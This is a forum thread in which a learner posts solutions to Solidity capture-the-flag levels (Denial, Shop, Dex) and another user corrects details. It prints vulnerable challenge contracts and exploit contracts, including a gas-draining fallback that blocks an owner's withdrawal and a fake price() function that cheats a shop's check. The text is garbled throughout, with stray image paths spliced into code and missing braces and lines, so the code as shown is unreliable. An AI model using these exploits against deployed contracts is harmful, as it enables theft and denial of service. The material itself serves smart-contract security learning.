        // Therecipient can revert, the owner will still get their share{value:amountToSend}("");
        // keep track of last withdrawal time
        timeLastWithdrawn = block.timestamp;
        withdrawPartnerBalances[partner] +=  amountToSend;

    // allow deposit of funds
    receive() external payable {}

    // convenience function
    function contractBalance() public view returns (uint) {
        return address(this).balance;

Code Breakdown

  • I won't provide a comprehensive code breakdown given the in-code comments do the heavy lifting in outlining key functionalities;
  • the owner is a constant address of 0xA9E; and
  • the withdraw function takes an amountToSend (which is the balance of the contract's address divided by 100 (converting it to a %).

When the function withdraw is called, it sends some of the ETH to the owner - the question becomes, how can we actually stop this? I noticed copying this contract into Remix that{value:amountToSend}(""); was underlined as a warning in the code.

Exploring this hint further,{value:amountToSend}(""); sends ETH to the partner address before the owner's address. To exploit this pattern, I set the partner's address to our contract (i.e. denying the owner the funds at the call of the withdraw function) and noted that the use of a call means we will need to include a fallback function into our exploit contract. Note that the .call to the partner, does not check if the code is successful or not so it will continue to execute the remainder of the contract. This means to ensure the transaction reverts by a means aside from the revert function, achieved by draining the contract entirely of gas (see the assembly and invalid lines in my below code.My code for the exploit is as follows:

pragma solidity ^0.8;

interface IDenial {
    function setWithdrawPartner(address) external;

contract rekt {
    constructor(IDenial target) {fallback() external payable {
        assembly {

The lesson here being that external calls to unknown contracts can still create denial of service attack vectors if a fixed amount of gas is not specified.

A helpful note from OZ on how to avoid this type of attack is as follows:
An external CALL can use at most 63/64 of the gas currently available at the time of the CALL. Thus, depending on how much gas is required to complete a transaction, a transaction of sufficiently high gas (i.e. one such that 1/64 of the gas is capable of completing the remaining opcodes in the parent call) can be used to mitigate this particular attack.

1 Like

Thank you for this comment and your immediately preceding comment. I've looked at the sources you've linked and I agree - my comment is misguided.

I also really appreciated you pointing out that one of the hacks was no longer viable given the upgrade to contracts. I've noticed the theme of caution in implementing dynamically sized arrays inconstructor arguments.

1 Like

Well, you've kinda mixed between the two comments, but NP.

In the first comment, I stated that the only place where storage-override requires careful handling is upon upgrading a deployed contract, typically using OpenZeppelin Contract Upgrade Scheme.

The term "only" is a bit incorrect here, since clearly, the contract in the given challenge does contain a storage-hack embedded in codex.length--.

But my main point was that address _owner and bool contact DO NOT overlap (or override) each other in any way, in contrast with what's implied in your description:

Other than the fact that both of these variables are located in slot 0 (due to their sizes allowing it), none of this is relevant to the challenge at hand, which can be solved by using bytes32[] codex in order to modify the value of address _owner.

In the second comment, I stated that the hack described above is no longer viable as of solc v0.6.0, due to array-length being considered by the compiler as read-only, starting from that version.

1 Like

Day 35:

Сan you get the item from the shop for less than the price asked? An issue alluded to is that Shop expects to be used from a Buyer, flagging a potential issue to do with interface functionalities of Solidity and calling state variables such as price.


// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface Buyer {
  function price() external view returns (uint);

contract Shop {
  uint public price = 100;
  bool public isSold;

  function buy() public {
    Buyer _buyer = Buyer(msg.sender);

    if (_buyer.price() >= price && !isSold) {
      isSold = true;
      price = _buyer.price();

Code Breakdown

  • interface is going to refer to the Buyer contract and call the function price (see below);
  • the Shop contract sets a public price of 100 (uint public price) and a boolean state variable isSold; and
  • the function buy is publicly callable whereby the msg.senderbecomes a _buyer if the _buyer.price is great than or equal to the price and is FALSE according to isSold. If these conditions are met, the item's isSold status becomes true and price becomes the _buyer.price.

The solution requires the following two conditions to be met 1) isSold == true and, 2) price <100.

To do this, I:

  • made sure that the rekt contract had the vital functions of the Shop contract via interface;
  • specified that the Shop contract was the target for the purpose of deployment (see target line);
  • used the function rek to call the function buy in the Shop contract but required that price be 99; and
  • used the function price to check if the price based on the isSold status - i.e. if the price was 100, it would not have been sold.

This was made possible because of the Shop contract checks the price, which is the following line: if (_buyer.price() >= price && !isSold) { but it calls the contract again via the _buyer.price() and sets the price. See the code below

// SPDX-License-Identifier: MIT
pragma solidity ^0.8;

interface IShop {
    function buy() external;
    function price() external view returns (uint256);
    function isSold() external view returns (bool);

contract rekt{
    IShop private immutable target;

    constructor(address _target) {
        target = IShop(_target);

    function rek() external {;require(target.price() == 99, "price != 99");

    function price() external view returns (uint256) {
        if (target.isSold()) {
            return 99;
        return 100;

BTW, this hack would no longer be viable even if array-length was still a modifiable attribute, since as of solc v0.8.0 (if I remember correctly), all arithmetic operations have changed to revert the transaction upon overflow or underflow.

So with codex.length == 0, an attempt to execute codex.length-- would cause the transaction to revert rather than reaching codex.length == type(uint256).max, which is what the hack in this challenge is based on.1 Like

You really ought to precede your 'Solution' paragraph with a 'Problem' paragraph.

And the problem is very easy to describe in this case:

The external function-call (a call to function price on another contract) occurs BOTH in the 'if' condition AND in the 'if' clause itself, allowing a scenario in which this function returns a different value on each one of these two calls.

1 Like

Duly noted on the ordering and nicely worded problem, that's exactly it!

Day 36:


// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

import "openzeppelin-contracts-08/token/ERC20/IERC20.sol";
import "openzeppelin-contracts-08/token/ERC20/ERC20.sol";
import 'openzeppelin-contracts-08/access/Ownable.sol';

contract Dex is Ownable {
  address public token1;
  address public token2;
  constructor() {}

  function setTokens(address _token1, address _token2) public onlyOwner {
    token1 = _token1;
    token2 = _token2;
  function addLiquidity(address token_address, uint amount) public onlyOwner {
    IERC20(token_address).transferFrom(msg.sender, address(this), amount);
  function swap(address from, address to, uint amount) public {
    require((from == token1 && to == token2) || (from == token2 && to == token1), "Invalid tokens");
    require(IERC20(from).balanceOf(msg.sender) >= amount, "Not enough to swap");
    uint swapAmount = getSwapPrice(from, to, amount);
    IERC20(from).transferFrom(msg.sender, address(this), amount);
    IERC20(to).approve(address(this), swapAmount);
    IERC20(to).transferFrom(address(this), msg.sender, swapAmount);

  function getSwapPrice(address from, address to, uint amount) public viewreturns(uint){
    return((amount * IERC20(to).balanceOf(address(this)))/IERC20(from).balanceOf(address(this)));

  function approve(address spender, uint amount) public {
    SwappableToken(token1).approve(msg.sender, spender, amount);
    SwappableToken(token2).approve(msg.sender, spender, amount);

  function balanceOf(address token, addressaccount) public viewreturns (uint){
    return IERC20(token).balanceOf(account);

contract SwappableToken is ERC20 {
  address private _dex;
  constructor(address dexInstance, string memory name, string memory symbol, uint256 initialSupply) ERC20(name, symbol) {
        _mint(msg.sender, initialSupply);
        _dex = dexInstance;

  function approve(address owner, address spender, uint256 amount) public {
    require(owner != _dex, "InvalidApprover");
    super._approve(owner, spender, amount);

Code Breakdown
One error I kept running into for this code was that the import 'openzeppelin-contracts-08/access/Ownable.sol'; did NOT want to play nice. I consistently got Error: not found contracts/access/Ownable.sol This is extremely frustrating so I'm working on the solution in the background whilst I solve for this.

The breakdown:

  • the code starts by importing the OZ ERC20 contract, ERC20interface and Ownable contracts;
  • the contract DEX is an Ownable contract that contains token1/token2 both of which are mapped to public addresses;
  • setTokens takes the address of both tokens making sure that only the Owner (i.e. onlyOwner) can execute this function;
  • addLiquidity allows only the owner to addliquidity of a token. That is, taking an uint amount and a token's address, and the msg.sender sending more tokens to that address;
  • swap takes an address that the token is being sent from, to and the amount. It imposes the requirements that: 1) the token being sent is taken directly from the address directly specified for token1 or token 2's address - otherwise it will revert with an "Invalid tokens" error,and 2) if a user decides to transfer from their balance, the amount in the balance must be greater than or equal to thatamount;
  • swapAmount is set equal to the getSwapPrice function (see below), but a flag here is that you should never specify price in a smart contract. This is what API's were created for and are: 1) less subject to malicious actors and 2) are a smoother way to import external functionalities into Solidity;
  • the various IERC20 lines add functionality of facilitating transfers to and from addresses;
  • getSwapPrice takes the necessary parameters for a transfer / swap and returns an amount that is the balance contained at to (i.e. whatever address the token is being sent to) and divides it by the balance contained from;
  • approve takes a spender's address and amount, and points to the SwappableToken contract (see below). This function asks the msg.sender to approve the transaction (for token1 and 2) with the spender's address and the amount;
  • balanceOf is used to calculate a user's balance by looking to the address of a token and returning the balance of that token, heldin a user's account;
  • the SwappableToken contract is an ERC20 contract that contains a 'private' dex address and initialises the contract based on this address, the token's name, the tokens symbol (noting both are stored in the contracts memory) and the initial supply (which is only able to be supposedly altered by the owner); and
  • approve in this contract allows the owner (that has the same address at the private dex address - as specified at contract initialisation) to approve the transfer of tokens between the owner, the spender and the amount.

The goal of this level is for you to hack the basic DEX contract below and steal the funds by price manipulation. You will start with 10 tokens of token1 and 10 of token2. The DEX contractstarts with 100 of each token. You will be successful in this level if you manage to drain all of at least 1 of the 2 tokens from the contract, and allow the contract to report a "bad" price of the assets.

Some pointers by OZ in relation to the challenge:

  • How is the price of the token calculated?
  • How does the swap method work?
  • How do you approve a transaction of an ERC20?
  • Theres more than one way to interact with a contract!
  • Remix might help
  • What does "At Address" do?

I've linked this contract's official documentation at the end of an earlier comment which I made here:

AFAIK, the most widely used access-restriction mechanism, which also happens to be the oldest one and the simplest one (probably the reason for it being the most widely used one), is Ownable.

If you navigate to that webpage, then you'll see that it tells you where to import this contract from:

import "@openzeppelin/contracts/access/Ownable.sol";

You can also find it by browsing through the node_module folder in your project:

The answer to that can be found directly in the function whose name implies it:

function getSwapPrice(address from, address to, uint amount) public view returns(uint){return((amount * IERC20(to).balanceOf(address(this)))/IERC20(from).balanceOf(address(this)));

In other words: the price is calculated as the amount of to tokens owned by the contract, divided by the amount of from tokens owned by the contract, where to and from indicate the direction of the swap.

Same asabove.

First of all, you approve a transfer, not a transaction.
This is a semantic issue, but nevertheless an important one, since a transaction on a contract is basically any function-call made on that contract, or even just an ETH transfer with no function-call included (passing an empty data field as part of the transaction).

Second, before signing and sending the following transaction using account acc:

erc20TokenContract.transferFrom(src, dst, amount1)

You need to sign and send the following transaction usingaccount src:

erc20TokenContract.approve(acc, amount2)

With the value of amount2 being equal to or larger than the value of amount1.

You'll need to explain what exactly this question has to do with anything of what you've posted.
In other words, what code or other general description does this question refer to?

1 Like

Thanks for answering all these questions - on your final point, I'm currently still working on the solution so in my explanation I'll be sure to tie it back to this point for you.